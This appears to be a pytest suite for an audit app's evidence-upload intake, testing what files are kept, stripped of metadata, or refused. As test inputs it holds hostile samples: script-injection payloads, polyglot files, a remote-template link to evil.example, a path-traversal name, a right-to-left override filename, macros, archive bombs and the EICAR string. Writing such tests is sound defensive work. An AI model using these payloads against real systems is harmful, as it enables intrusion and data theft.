"""What becomes of a file that somebody brings along: kept, kept without what is not evidence, or refused with why."""

import hashlib
import io
import socket
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.base import ContentFile
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from auditapp.evidence.intake import taken_in
from auditapp.evidence.names import clean_name
from auditapp.evidence.refusing import NotTaken
from tests.evidence import clamd, files

NUMBERS = files.pdf_with("audit-facts.json", b'{"schema": 1}')


def refusal(name: str, content: bytes) -> str:
    """The code with which a file is refused; "" when it is kept."""
    try:
        taken_in(ContentFile(content, name=name))
    except NotTaken as refused:
        return refused.code if refused.sentence.endswith(".") else "no sentence"
    return ""


def kept(name: str, content: bytes) -> bytes:
    taken = taken_in(ContentFile(content, name=name))
    return taken.content.read()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("Report.PDF", files.pdf(3)),
        ("invoice.pdf", NUMBERS),
        ("odd.pdf", files.pdf() + b"\n<html><script>alert(1)</script></html>"),
        ("log.txt", "Zeit, café\r\n".encode()),
        ("table.csv", b"a;b\n1;2\n"),
        ("notes.md", b"# Notes\n\n<b>bold</b> is only text here\n"),
        ("letter.docx", files.office("docx")),
        ("figures.xlsx", files.office("xlsx")),
        ("slides.pptx", files.office("pptx", {"ppt/embeddings/Sheet1.xlsx": b"PK"})),
    ],
)
def test_what_hospitals_use_is_kept_byte_for_byte(name: str, content: bytes) -> None:
    taken = taken_in(ContentFile(content, name=name))
    assert taken.content.read() == content
    assert taken.sha256 == taken.uploaded_sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        # Pages and drawings that run scripts, under their own names and under others
        ("page.html", b"<p>Hello</p>", "type"),
        ("drawing.svg", b"<svg onload='alert(1)'/>", "type"),
        ("page.txt", b"\n <!DOCTYPE html><script>alert(1)</script>", "disguised"),
        ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "disguised"),
        ("drawing.csv", b"\xef\xbb\xbf<svg onload='alert(1)'/>", "disguised"),
        # Two files in one
        ("moving.gif", b"GIF89a=1;alert(1)", "type"),
        ("moving.txt", b"GIF89a=1;alert(1)", "disguised"),
        ("page.pdf", b"<html><script>alert(1)</script>\n%PDF-1.7\n", "disguised"),
        ("both.pdf", files.pdf() + files.archive(program=b"MZ"), "two_files"),
        ("both.docx", b"PK\x03\x04" + b"junk" * 9 + files.office(), "two_files"),
        # Not what the name says
        ("report.pdf", b"MZ a program", "disguised"),
        ("photo.jpg", files.picture("PNG"), "disguised"),
        ("notes.txt", b"a\x00b", "disguised"),
        ("late.txt", b"a" * 100_000 + b"\x00", "disguised"),
        ("letter.docx", files.office("xlsx"), "disguised"),
        ("letter.docx", files.archive(readme=b"no document"), "disguised"),
        ("noending", b"text", "type"),
        ("report.pdf.exe", files.pdf(), "type"),
        # Damaged
        ("report.pdf", b"%PDF-1.7 and nothing else", "unreadable"),
        ("photo.png", files.picture("PNG")[:60], "unreadable"),
        ("letter.docx", files.office()[:90], "unreadable"),
        ("empty.pdf", b"", "empty"),
        # PDFs that do something
        ("report.pdf", files.script_pdf(), "script"),
        ("report.pdf", files.launching_pdf(), "script"),
        ("report.pdf", files.film_pdf(), "active"),
        ("report.pdf", files.pdf_with("setup.exe", b"MZ"), "attachment"),
        ("report.pdf", files.pdf_with("setup.txt", b"MZ\x00"), "attachment"),
        ("report.pdf", files.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))), "script"),
        ("report.pdf", files.pdf(A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm)), "script"),
        ("report.pdf", files.locked_pdf(), "password"),
        ("letter.docx", files.locked_office(), "password"),
        # Office files that do something
        ("letter.docx", files.office(parts={"word/vbaProject.bin": b"macro"}), "macro"),
        ("letter.docx", files.office(types='<Default ContentType="application/x.macroEnabled.y"/>'), "macro"),
        ("figures.xlsx", files.office("xlsx", {"xl/macrosheets/sheet1.xml": b"<m/>"}), "macro"),
        ("letter.docx", files.office(parts={"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        ("letter.docx", files.office(parts={"word/media/setup.EXE": b"MZ"}), "embedded"),
        (
            "letter.docx",
            files.office(
                parts={
                    "word/_rels/settings.xml.rels": b'<Relationship Target="https://evil.example/t.dotm" '
                    b'Type="http://x/relationships/attachedTemplate" TargetMode="External"/>'
                }
            ),
            "remote",
        ),
        # Bombs
        ("letter.docx", files.office(parts={"bomb.xml": b"0" * 50_000_000}), "bomb"),
        ("letter.docx", files.overlapping(), "bomb"),
        ("letter.docx", files.office(parts={f"{n}.xml": b"" for n in range(20_001)}), "bomb"),
        ("photo.png", files.pixel_bomb(), "pixels"),
        ("photo.png", files.pixel_bomb(9_000), "pixels"),
        ("photo.png", files.moving_picture(), "moving"),
    ],
)
def test_what_runs_lies_or_explodes_is_refused(name: str, content: bytes, code: str) -> None:
    assert refusal(name, content) == code


def test_a_file_larger_than_may_be_is_refused(settings: Any) -> None:
    settings.EVIDENCE_MAX_BYTES = 100
    assert refusal("notes.txt", b"a" * 101) == "too_large"


@pytest.mark.parametrize("ending", ["png", "jpg"])
def test_a_picture_is_kept_without_what_hangs_behind_it(ending: str) -> None:
    """JPEG and ZIP in one: the picture stays, the archive goes."""
    made = files.picture("PNG" if ending == "png" else "JPEG")
    content = kept(f"photo.{ending}", made + files.archive(program=b"MZ a program"))
    assert b"MZ a program" not in content
    assert b"PK\x03\x04" not in content
    assert Image.open(io.BytesIO(content)).size == (40, 20)


def test_a_photograph_loses_place_time_device_comment_and_xmp() -> None:
    sent = files.photograph()
    assert all(word in sent for word in (b"Ward phone 7", b"GPSLatitude", b"54.9667"))
    taken = taken_in(ContentFile(sent, name="photo.jpg"))
    content = taken.content.read()
    assert not any(word in content for word in (b"Ward phone", b"GPS", b"xmp", b"54.9667", b"2026:10:01", b"Exif"))
    picture = Image.open(io.BytesIO(content))
    assert dict(picture.getexif()) == {}
    assert picture.quantization == Image.open(io.BytesIO(sent)).quantization  # no loss beside the one it had
    assert taken.uploaded_sha256 == hashlib.sha256(sent).hexdigest()
    assert taken.sha256 == hashlib.sha256(content).hexdigest() != taken.uploaded_sha256


def test_a_picture_keeps_no_words_that_were_written_into_it() -> None:
    words = PngInfo()
    words.add_text("Location", "54.9667, -1.6")
    exif = Image.Exif()
    exif[0x010F] = "Ward phone 7"
    content = kept("photo.png", files.picture("PNG", pnginfo=words, exif=exif))
    assert b"54.9667" not in content
    assert b"Ward phone" not in content


@pytest.mark.parametrize(("orientation", "red"), [(1, (8, 16)), (3, (56, 16)), (6, (16, 8)), (8, (16, 56))])
def test_a_photograph_stays_the_right_way_up(orientation: int, red: tuple[int, int]) -> None:
    picture = Image.open(io.BytesIO(kept("photo.jpg", files.photograph(orientation))))
    assert picture.size == ((64, 32) if orientation in {1, 3} else (32, 64))
    assert picture.getpixel(red)[0] > 200


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\asha\\report.pdf", "report.pdf"),
        ("annual\u202efdp.exe", "annualfdp.exe"),  # shown as “annualexe.pdf” by what turns the direction
        ("re\u200bport\x07.pdf", "report.pdf"),
        ("report.pdf. ", "report.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
        ("..", ""),
    ],
)
def test_a_name_is_shown_without_paths_and_without_what_cannot_be_seen(typed: str, shown: str) -> None:
    assert clean_name(typed) == shown


def test_a_name_that_turns_its_direction_is_judged_by_what_it_really_ends_with() -> None:
    assert refusal("annual\u202efdp.exe", files.pdf()) == "type"
    assert taken_in(ContentFile(files.pdf(), name="annual\u202eexe.pdf")).filename == "annualexe.pdf"


def test_what_makes_the_inspection_fail_is_refused_and_not_kept(settings: Any, monkeypatch: Any) -> None:
    """The process that looks into a file may die of it; the file is then not kept."""
    monkeypatch.setattr("auditapp.evidence.intake.sys.executable", "/bin/false")
    assert refusal("report.pdf", files.pdf()) == "unreadable"


def test_nothing_is_left_in_the_work_folder(settings: Any) -> None:
    taken_in(ContentFile(files.pdf(), name="a.pdf"))
    refusal("a.pdf", files.script_pdf())
    assert list(settings.AUDITAPP_UPLOADS_DIR.iterdir()) == []


@pytest.mark.parametrize("on_a_socket", [True, False], ids=["unix socket", "port"])
def test_the_malware_scanner_is_shown_every_file_as_it_was_sent(
    settings: Any, tmp_path: Path, on_a_socket: bool
) -> None:
    with clamd.running(tmp_path if on_a_socket else None) as daemon:
        settings.CLAMD_ADDRESS = daemon.address
        sent = files.photograph() + b"tail" * 200_000
        assert refusal("photo.jpg", sent) == ""
        assert daemon.seen == [sent]
        assert refusal("eicar.txt", files.EICAR) == "malware"
        assert refusal("letter.docx", files.office(parts={"a.xml": b"x"}) + files.EICAR) == "malware"


def test_the_sentence_names_what_the_scanner_found(settings: Any) -> None:
    with clamd.running() as daemon:
        settings.CLAMD_ADDRESS = daemon.address
        with pytest.raises(NotTaken, match="found “Eicar-Test-Signature”"):
            taken_in(ContentFile(files.EICAR, name="eicar.txt"))


def test_a_scanner_that_says_anything_else_than_ok_lets_nothing_through(settings: Any) -> None:
    with clamd.running() as daemon:
        settings.CLAMD_ADDRESS = daemon.address
        daemon.replies += [b"INSTREAM size limit exceeded. ERROR\0", b"", b"no end"]
        assert [refusal("a.txt", b"plain") for _ in range(3)] == ["unscanned"] * 3
        assert refusal("a.txt", b"plain") == ""


@pytest.mark.parametrize("address", ["unix:/nowhere/clamd.ctl", "127.0.0.1:{port}", "nonsense"])
def test_a_scanner_that_does_not_answer_lets_nothing_through(settings: Any, address: str) -> None:
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))  # taken, and nobody listens
        settings.CLAMD_ADDRESS = address.format(port=nobody.getsockname()[1])
        assert refusal("a.txt", b"plain") == "unscanned"


def test_without_a_scanner_nobody_is_asked(settings: Any) -> None:
    assert settings.CLAMD_ADDRESS == ""
    assert refusal("a.txt", b"plain") == ""
